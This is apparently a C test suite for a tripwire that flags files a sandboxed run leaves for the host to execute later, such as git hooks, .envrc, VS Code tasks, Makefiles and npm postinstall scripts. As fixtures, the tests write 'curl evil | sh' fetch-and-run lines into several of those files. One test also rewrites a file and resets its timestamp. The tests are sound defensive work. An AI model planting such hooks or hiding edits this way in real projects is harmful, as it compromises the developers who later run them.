/* test-tripwire.c: the report of files a run left that the host would
 * run later
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "paddock-tripwire.h"
#include "test-util.h"

/* Whether one line of @lines starts with @prefix. */
static gboolean
reports (GStrv       lines,
         const char *prefix)
{
  for (guint i = 0; lines[i] != NULL; i++)
    if (g_str_has_prefix (lines[i], prefix))
      return TRUE;
  return FALSE;
}

static void
log_lines (GStrv lines)
{
  for (guint i = 0; lines[i] != NULL; i++)
    g_test_message ("reported: %s", lines[i]);
}

static void
test_nothing_changed (void)
{
  g_autofree char *ws = test_make_dir ("quiet");
  g_autoptr(PaddockTripwire) tripwire = NULL;
  g_auto(GStrv) lines = NULL;

  g_free (test_write_file (ws, ".envrc", "export A=1\n"));
  g_free (test_write_file (ws, "Makefile", "all:\n"));
  g_free (test_write_file (ws, "src/main.c", "int main;\n"));
  tripwire = paddock_tripwire_new (ws);

  /* Ordinary work: a source file changes, a build folder appears. */
  g_free (test_write_file (ws, "src/main.c", "int main (void);\n"));
  g_free (test_write_file (ws, "build/out.o", "x"));

  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_cmpuint (g_strv_length (lines), ==, 0);
}

static void
test_created_and_changed (void)
{
  g_autofree char *ws = test_make_dir ("busy");
  g_autoptr(PaddockTripwire) tripwire = NULL;
  g_auto(GStrv) lines = NULL;

  g_free (test_write_file (ws, "Makefile", "all:\n\techo hi\n"));
  g_free (test_write_file (ws, ".git/hooks/pre-commit.sample", "#!/bin/sh\n"));
  tripwire = paddock_tripwire_new (ws);

  g_free (test_write_file (ws, ".envrc", "curl evil | sh\n"));
  g_free (test_write_file (ws, ".husky/pre-commit", "curl evil | sh\n"));
  g_free (test_write_file (ws, ".vscode/tasks.json", "{}"));
  g_free (test_write_file (ws, ".pre-commit-config.yaml", "repos: []\n"));
  g_free (test_write_file (ws, ".git/hooks/post-checkout", "#!/bin/sh\n"));
  g_free (test_write_file (ws, "vendor/lib/.git/config", "[core]\n"));
  g_free (test_write_file (ws, "Makefile", "all:\n\tcurl evil\n"));

  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_true (reports (lines, "created .envrc (direnv"));
  g_assert_true (reports (lines, "created .husky"));
  g_assert_true (reports (lines, "created .husky/pre-commit"));
  g_assert_true (reports (lines, "created .vscode/tasks.json"));
  g_assert_true (reports (lines, "created .pre-commit-config.yaml"));
  g_assert_true (reports (lines, "created .git/hooks/post-checkout (git runs its hooks)"));
  g_assert_true (reports (lines, "created vendor/lib/.git (a nested git repository"));
  g_assert_true (reports (lines, "changed Makefile (make runs it)"));
  /* The sample that was there and did not change is not reported. */
  g_assert_false (reports (lines, "changed .git/hooks/pre-commit.sample"));
}

/* Rewriting a file with the same size and putting its modification time
 * back still shows: the change time cannot be put back. */
static void
test_same_size_old_time (void)
{
  g_autofree char *ws = test_make_dir ("sneaky");
  g_autofree char *envrc = test_write_file (ws, ".envrc", "export A=1\n");
  g_autoptr(PaddockTripwire) tripwire = NULL;
  g_auto(GStrv) lines = NULL;
  struct stat st;
  struct timespec times[2];
  int fd;

  g_assert_cmpint (stat (envrc, &st), ==, 0);
  tripwire = paddock_tripwire_new (ws);
  g_usleep (20 * 1000);  /* past the file system's time granularity */

  fd = open (envrc, O_WRONLY);
  g_assert_cmpint (fd, >=, 0);
  g_assert_cmpint (pwrite (fd, "export B=1\n", 11, 0), ==, 11);
  times[0] = st.st_atim;
  times[1] = st.st_mtim;
  g_assert_cmpint (futimens (fd, times), ==, 0);
  close (fd);

  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_true (reports (lines, "changed .envrc"));
}

static void
test_package_scripts (void)
{
  g_autofree char *ws = test_make_dir ("npm");
  g_autoptr(PaddockTripwire) tripwire = NULL;
  g_auto(GStrv) lines = NULL;

  g_free (test_write_file (ws, "package.json",
                           "{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"jest\"}}"));
  tripwire = paddock_tripwire_new (ws);

  /* A new version number runs nothing. */
  g_free (test_write_file (ws, "package.json",
                           "{\"name\": \"x\", \"version\": \"1.0.1\", \"scripts\": {\"test\": \"jest\"}}"));
  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_cmpuint (g_strv_length (lines), ==, 0);
  g_clear_pointer (&lines, g_strfreev);

  /* A new install script does. */
  g_free (test_write_file (ws, "package.json",
                           "{\"name\": \"x\", \"version\": \"1.0.1\", \"scripts\": {\"test\": \"jest\","
                           " \"postinstall\": \"curl evil | sh\"}}"));
  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_true (reports (lines, "changed package.json (its scripts changed"));
}

static void
test_removed_and_link (void)
{
  g_autofree char *ws = test_make_dir ("links");
  g_autofree char *hook = test_write_file (ws, ".git/hooks/pre-push", "#!/bin/sh\n");
  g_autofree char *envrc = g_build_filename (ws, ".envrc", NULL);
  g_autoptr(PaddockTripwire) tripwire = NULL;
  g_auto(GStrv) lines = NULL;

  tripwire = paddock_tripwire_new (ws);
  g_assert_cmpint (g_unlink (hook), ==, 0);
  g_assert_cmpint (symlink ("/tmp/somewhere/envrc", envrc), ==, 0);

  lines = paddock_tripwire_check (tripwire);
  log_lines (lines);
  g_assert_true (reports (lines, "removed .git/hooks/pre-push"));
  g_assert_true (reports (lines, "created .envrc"));
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/tripwire/nothing-changed", test_nothing_changed);
  g_test_add_func ("/tripwire/created-and-changed", test_created_and_changed);
  g_test_add_func ("/tripwire/same-size-old-time", test_same_size_old_time);
  g_test_add_func ("/tripwire/package-scripts", test_package_scripts);
  g_test_add_func ("/tripwire/removed-and-link", test_removed_and_link);

  return g_test_run ();
}
